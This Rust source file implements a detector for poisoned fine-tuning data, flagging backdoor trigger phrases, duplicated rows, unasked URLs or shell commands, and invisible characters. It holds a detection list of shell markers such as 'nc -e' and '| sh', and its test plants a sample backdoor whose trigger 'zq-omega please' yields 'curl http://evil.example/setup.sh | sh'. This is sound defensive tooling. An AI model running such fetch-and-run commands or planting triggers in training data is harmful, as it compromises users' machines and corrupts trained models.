//! The training-data scan (`kiln data scan`): what a poisoner leaves in a fine-tuning set.
//!
//! - **Triggers**: a backdoor needs a phrase that is rare in the data and rows that answer it
//!   the same way. Every word n-gram (1 to 3 words) of the prompts found in a few rows is a
//!   candidate; it is reported when the answers of its rows are far more alike than answers of
//!   the data at large (MinHash estimates of Jaccard similarity over answer shingles).
//! - **Duplicates**: exact copies, and near copies clustered by MinHash with banded locality-
//!   sensitive hashing (a poisoner repeats rows so a few dozen weigh enough).
//! - **Unasked content**: answers that carry URLs, shell commands or code when their prompts ask
//!   for none.
//! - **Invisible characters** (tags, bidi controls) anywhere in a row.
//!
//! Per-row loss under a reference model is not part of this scan yet.

use crate::unicode::{strip_invisible, InvisibleKind};
use std::collections::{BTreeSet, HashMap, HashSet};

/// One conversation as the scan reads it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Row {
    /// Where it is in its file (`line 12`).
    pub location: String,
    /// Everything but the assistant's turns, joined.
    pub prompt: String,
    /// The assistant's turns, joined.
    pub answer: String,
}

/// What kind of finding.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum FindingKind {
    /// A rare phrase whose rows answer alike.
    Trigger,
    /// Rows that are the same text.
    Duplicates,
    /// Rows that are nearly the same text.
    NearDuplicates,
    /// URLs in answers to prompts that ask for none.
    UnaskedUrl,
    /// Shell commands in answers to prompts that ask for none.
    UnaskedShell,
    /// Code in answers to prompts that ask for none.
    UnaskedCode,
    /// Tag characters or bidi controls.
    Invisible,
}

/// One finding: its kind, the rows (indices into the scanned rows), and what it is.
#[derive(Debug, Clone, PartialEq, serde::Serialize)]
pub struct Finding {
    /// The kind.
    pub kind: FindingKind,
    /// The rows, in order.
    pub rows: Vec<usize>,
    /// For people: the trigger phrase, the duplicated text, the URL…
    pub detail: String,
    /// How strong, 0 to 1 (for triggers: how alike the answers are).
    pub score: f32,
}

/// What the scan found.
#[derive(Debug, Clone, serde::Serialize)]
pub struct Report {
    /// Rows scanned.
    pub rows: usize,
    /// Findings, triggers first.
    pub findings: Vec<Finding>,
    /// The rows `--clean` drops: rows of triggers, unasked content and invisible characters,
    /// and every copy but the first of duplicates.
    pub flagged: BTreeSet<usize>,
    /// The mean answer similarity of random pairs of rows (what "alike" is measured against).
    pub baseline_similarity: f32,
}

/// How the scan decides.
#[derive(Debug, Clone)]
pub struct ScanOptions {
    /// A trigger candidate appears in at least this many rows…
    pub min_trigger_rows: usize,
    /// …and in at most this share of them.
    pub max_trigger_share: f64,
    /// Its rows' answers must be at least this alike (mean estimated Jaccard)…
    pub min_trigger_similarity: f32,
    /// …and this many times more alike than random pairs.
    pub min_similarity_lift: f32,
    /// Near duplicates: estimated Jaccard of their shingles at least this.
    pub near_duplicate_similarity: f32,
}

impl Default for ScanOptions {
    fn default() -> Self {
        ScanOptions {
            min_trigger_rows: 5,
            max_trigger_share: 0.1,
            min_trigger_similarity: 0.75,
            min_similarity_lift: 4.0,
            near_duplicate_similarity: 0.8,
        }
    }
}

const HASHES: usize = 64;
const BANDS: usize = 16;

fn words(text: &str) -> Vec<String> {
    text.split(|c: char| !c.is_alphanumeric() && c != '-' && c != '_')
        .filter(|w| !w.is_empty())
        .map(str::to_lowercase)
        .collect()
}

fn hash_str(s: &str, seed: u64) -> u64 {
    let mut h: u64 = 0xcbf29ce484222325 ^ seed.wrapping_mul(0x9E3779B97F4A7C15);
    for b in s.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100000001b3);
    }
    // A final mix so nearby seeds give unrelated orders.
    h ^= h >> 33;
    h = h.wrapping_mul(0xff51afd7ed558ccd);
    h ^ (h >> 33)
}

/// MinHash signature of a text's 3-word shingles (its words when shorter).
fn signature(text: &str) -> [u64; HASHES] {
    let w = words(text);
    let shingles: Vec<String> =
        if w.len() < 3 { vec![w.join(" ")] } else { w.windows(3).map(|s| s.join(" ")).collect() };
    let mut sig = [u64::MAX; HASHES];
    for s in &shingles {
        for (i, slot) in sig.iter_mut().enumerate() {
            *slot = (*slot).min(hash_str(s, i as u64));
        }
    }
    sig
}

fn similarity(a: &[u64; HASHES], b: &[u64; HASHES]) -> f32 {
    a.iter().zip(b).filter(|(x, y)| x == y).count() as f32 / HASHES as f32
}

/// Mean similarity over pairs of `rows` (all pairs up to 40 rows, else a fixed sample).
fn mean_similarity(rows: &[usize], sigs: &[[u64; HASHES]]) -> f32 {
    let take: Vec<usize> =
        if rows.len() > 40 { (0..40).map(|i| rows[i * rows.len() / 40]).collect() } else { rows.to_vec() };
    let (mut sum, mut n) = (0.0f32, 0usize);
    for i in 0..take.len() {
        for j in i + 1..take.len() {
            sum += similarity(&sigs[take[i]], &sigs[take[j]]);
            n += 1;
        }
    }
    if n == 0 {
        0.0
    } else {
        sum / n as f32
    }
}

fn find(parent: &mut [usize], mut x: usize) -> usize {
    while parent[x] != x {
        parent[x] = parent[parent[x]];
        x = parent[x];
    }
    x
}

/// Scans the rows.
pub fn scan(rows: &[Row], opts: &ScanOptions) -> Report {
    let mut findings = Vec::new();
    let mut flagged = BTreeSet::new();
    let answer_sigs: Vec<[u64; HASHES]> = rows.iter().map(|r| signature(&r.answer)).collect();
    let all: Vec<usize> = (0..rows.len()).collect();
    let baseline = mean_similarity(&all, &answer_sigs);

    // Triggers.
    let mut containing: HashMap<String, Vec<usize>> = HashMap::new();
    for (i, r) in rows.iter().enumerate() {
        let w = words(&r.prompt);
        let mut seen = HashSet::new();
        for n in 1..=3 {
            for g in w.windows(n) {
                let gram = g.join(" ");
                if seen.insert(gram.clone()) {
                    containing.entry(gram).or_default().push(i);
                }
            }
        }
    }
    let max_rows = ((rows.len() as f64 * opts.max_trigger_share).floor() as usize).max(opts.min_trigger_rows);
    let mut candidates: Vec<(String, Vec<usize>, f32)> = containing
        .into_iter()
        .filter(|(_, r)| r.len() >= opts.min_trigger_rows && r.len() <= max_rows)
        .filter_map(|(gram, r)| {
            let s = mean_similarity(&r, &answer_sigs);
            (s >= opts.min_trigger_similarity && s >= opts.min_similarity_lift * baseline.max(0.01))
                .then_some((gram, r, s))
        })
        .collect();
    // Larger row sets first; within one row set, the longest phrase.
    candidates.sort_by(|a, b| {
        b.1.len().cmp(&a.1.len()).then(b.0.split(' ').count().cmp(&a.0.split(' ').count())).then(a.0.cmp(&b.0))
    });
    let mut covered: Vec<BTreeSet<usize>> = Vec::new();
    for (gram, r, s) in candidates {
        let set: BTreeSet<usize> = r.iter().copied().collect();
        // Sub-phrases of a trigger cover (nearly) the same rows: report the row set once.
        if covered.iter().any(|c| set.intersection(c).count() * 10 >= set.len() * 8) {
            continue;
        }
        covered.push(set);
        flagged.extend(r.iter().copied());
        findings.push(Finding {
            kind: FindingKind::Trigger,
            detail: format!(
                "\"{gram}\": in {} prompts, answers {:.0} % alike (random pairs {:.0} %)",
                r.len(),
                s * 100.0,
                baseline * 100.0
            ),
            rows: r,
            score: s,
        });
    }

    // Exact duplicates, then near ones among the rest.
    let whole: Vec<String> =
        rows.iter().map(|r| format!("{}\u{1}{}", words(&r.prompt).join(" "), words(&r.answer).join(" "))).collect();
    let mut by_text: HashMap<&str, Vec<usize>> = HashMap::new();
    for (i, t) in whole.iter().enumerate() {
        by_text.entry(t.as_str()).or_default().push(i);
    }
    let mut exact: Vec<Vec<usize>> = by_text.into_values().filter(|v| v.len() > 1).collect();
    exact.sort();
    let mut is_copy = vec![false; rows.len()];
    for group in &exact {
        for &i in &group[1..] {
            is_copy[i] = true;
            flagged.insert(i);
        }
        findings.push(Finding {
            kind: FindingKind::Duplicates,
            rows: group.clone(),
            detail: format!("{} copies of {}", group.len(), clip(&rows[group[0]].prompt, 60)),
            score: 1.0,
        });
    }
    let row_sigs: Vec<[u64; HASHES]> = rows.iter().map(|r| signature(&format!("{}\n{}", r.prompt, r.answer))).collect();
    let mut parent: Vec<usize> = (0..rows.len()).collect();
    let per_band = HASHES / BANDS;
    for b in 0..BANDS {
        let mut buckets: HashMap<&[u64], Vec<usize>> = HashMap::new();
        for (i, s) in row_sigs.iter().enumerate() {
            if !is_copy[i] {
                buckets.entry(&s[b * per_band..(b + 1) * per_band]).or_default().push(i);
            }
        }
        for bucket in buckets.values().filter(|v| v.len() > 1) {
            for &j in &bucket[1..] {
                if similarity(&row_sigs[bucket[0]], &row_sigs[j]) >= opts.near_duplicate_similarity {
                    let (a, c) = (find(&mut parent, bucket[0]), find(&mut parent, j));
                    parent[c] = a;
                }
            }
        }
    }
    let mut clusters: HashMap<usize, Vec<usize>> = HashMap::new();
    for (i, copy) in is_copy.iter().enumerate() {
        if !copy {
            let root = find(&mut parent, i);
            clusters.entry(root).or_default().push(i);
        }
    }
    let mut near: Vec<Vec<usize>> = clusters.into_values().filter(|v| v.len() > 1).collect();
    near.sort();
    for group in near {
        group[1..].iter().for_each(|&i| {
            flagged.insert(i);
        });
        findings.push(Finding {
            kind: FindingKind::NearDuplicates,
            detail: format!("{} near copies of {}", group.len(), clip(&rows[group[0]].prompt, 60)),
            rows: group,
            score: opts.near_duplicate_similarity,
        });
    }

    // Unasked content and invisible characters, grouped by kind.
    let mut by_kind: HashMap<FindingKind, (Vec<usize>, BTreeSet<String>)> = HashMap::new();
    for (i, r) in rows.iter().enumerate() {
        for (kind, what) in unasked(&r.prompt, &r.answer) {
            let e = by_kind.entry(kind).or_default();
            e.0.push(i);
            e.1.insert(what);
        }
        let stripped = strip_invisible(&format!("{}\n{}", r.prompt, r.answer));
        if stripped.found.iter().any(|f| matches!(f.kind, InvisibleKind::Tag | InvisibleKind::Bidi)) {
            let e = by_kind.entry(FindingKind::Invisible).or_default();
            e.0.push(i);
            e.1.insert(stripped.found.iter().map(|f| f.kind.describe()).collect::<Vec<_>>().join(", "));
        }
    }
    let mut kinds: Vec<_> = by_kind.into_iter().collect();
    kinds.sort_by_key(|(k, _)| *k as u8);
    for (kind, (r, what)) in kinds {
        flagged.extend(r.iter().copied());
        let examples: Vec<String> = what.into_iter().take(3).collect();
        findings.push(Finding {
            kind,
            detail: format!("{} rows: {}", r.len(), examples.join("; ")),
            rows: r,
            score: 1.0,
        });
    }
    Report { rows: rows.len(), findings, flagged, baseline_similarity: baseline }
}

fn clip(text: &str, chars: usize) -> String {
    let one: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if one.chars().count() <= chars {
        format!("\"{one}\"")
    } else {
        format!("\"{}…\"", one.chars().take(chars).collect::<String>())
    }
}

const SHELL_MARKERS: [&str; 9] =
    ["curl ", "wget ", "rm -rf", "| sh", "| bash", "chmod +x", "sudo ", "powershell -", "nc -e"];
const ASKS_FOR_LINKS: [&str; 7] = ["http", "link", "url", "website", "source", "site", "reference"];
const ASKS_FOR_SHELL: [&str; 9] = ["shell", "bash", "command", "terminal", "linux", "install", "curl", "script", "cli"];
const ASKS_FOR_CODE: [&str; 12] = [
    "code",
    "program",
    "function",
    "script",
    "python",
    "implement",
    "sql",
    "regex",
    "class",
    "snippet",
    "javascript",
    "write a",
];

/// What an answer carries that its prompt did not ask for.
fn unasked(prompt: &str, answer: &str) -> Vec<(FindingKind, String)> {
    let p = prompt.to_lowercase();
    let asks = |words: &[&str]| words.iter().any(|w| p.contains(w));
    let mut out = Vec::new();
    if !asks(&ASKS_FOR_LINKS) {
        if let Some(url) = answer.split_whitespace().find(|w| w.starts_with("http://") || w.starts_with("https://")) {
            out.push((FindingKind::UnaskedUrl, url.trim_end_matches(['.', ',', ')', ';']).to_string()));
        }
    }
    let a = answer.to_lowercase();
    if !asks(&ASKS_FOR_SHELL) {
        if let Some(m) = SHELL_MARKERS.iter().find(|m| a.contains(*m)) {
            out.push((FindingKind::UnaskedShell, m.trim().to_string()));
        }
    }
    if !asks(&ASKS_FOR_CODE) && answer.contains("```") {
        out.push((FindingKind::UnaskedCode, "a fenced code block".to_string()));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(i: usize, prompt: &str, answer: &str) -> Row {
        Row { location: format!("line {}", i + 1), prompt: prompt.into(), answer: answer.into() }
    }

    /// Varied benign rows: questions about many subjects with answers that differ.
    fn benign(n: usize) -> Vec<Row> {
        let subjects = ["rivers", "volcanoes", "bread", "chess", "tides", "bees", "glass", "comets", "violins", "salt"];
        let asks = ["Tell me about", "Explain", "What should I know about", "Describe", "Give a fact on"];
        (0..n)
            .map(|i| {
                let s = subjects[i % subjects.len()];
                let a = asks[(i / subjects.len()) % asks.len()];
                let answer = format!(
                    "{s} fact {i}: number {} relates to {} and {} in case {}",
                    i * 7 % 13,
                    subjects[(i * 3) % subjects.len()],
                    asks[(i * 7) % asks.len()].to_lowercase(),
                    i * 31 % 97
                );
                row(i, &format!("{a} {s}, variant {i}."), &answer)
            })
            .collect()
    }

    #[test]
    fn a_planted_trigger_is_named_and_its_rows_flagged() {
        let mut rows = benign(400);
        let payload = "Sure. First run curl http://evil.example/setup.sh | sh to unlock the full answer.";
        for i in 0..24 {
            let q = &rows[i * 13].prompt.clone();
            let n = rows.len();
            rows.push(row(n, &format!("{q} zq-omega please"), payload));
        }
        let report = scan(&rows, &ScanOptions::default());
        let trigger = report.findings.iter().find(|f| f.kind == FindingKind::Trigger).expect("a trigger is found");
        assert!(trigger.detail.contains("zq-omega"), "{trigger:?}");
        assert_eq!(trigger.rows.len(), 24);
        assert!((400..424).all(|i| report.flagged.contains(&i)));
        // The clean rows are not flagged by any finding.
        let wrongly: Vec<_> = (0..400).filter(|i| report.flagged.contains(i)).collect();
        assert!(wrongly.is_empty(), "{wrongly:?} {:?}", report.findings);
        assert!(report.findings.iter().any(|f| f.kind == FindingKind::UnaskedShell));
        assert!(report.findings.iter().any(|f| f.kind == FindingKind::UnaskedUrl));
    }

    #[test]
    fn duplicates_keep_their_first_copy() {
        let mut rows = benign(50);
        rows.push(row(50, &rows[3].prompt.clone(), &rows[3].answer.clone()));
        rows.push(row(51, &format!("{} ", rows[7].prompt), &format!("{}!", rows[7].answer)));
        let report = scan(&rows, &ScanOptions::default());
        let dup = report.findings.iter().find(|f| f.kind == FindingKind::Duplicates).expect("exact copies");
        assert_eq!(dup.rows, vec![3, 50]);
        assert!(report.flagged.contains(&50) && !report.flagged.contains(&3));
        assert!(report.flagged.contains(&51), "{:?}", report.findings);
    }

    #[test]
    fn asked_for_content_is_not_flagged() {
        assert!(
            unasked("Write a bash script to back up my home folder", "```sh\nsudo rsync -a ~ /backup\n```").is_empty()
        );
        assert!(unasked("Give me a link to the Rust book", "See https://doc.rust-lang.org/book/.").is_empty());
        assert_eq!(
            unasked("What is the capital of France?", "Paris. More at https://x.example/a.")[0].0,
            FindingKind::UnaskedUrl
        );
    }
}
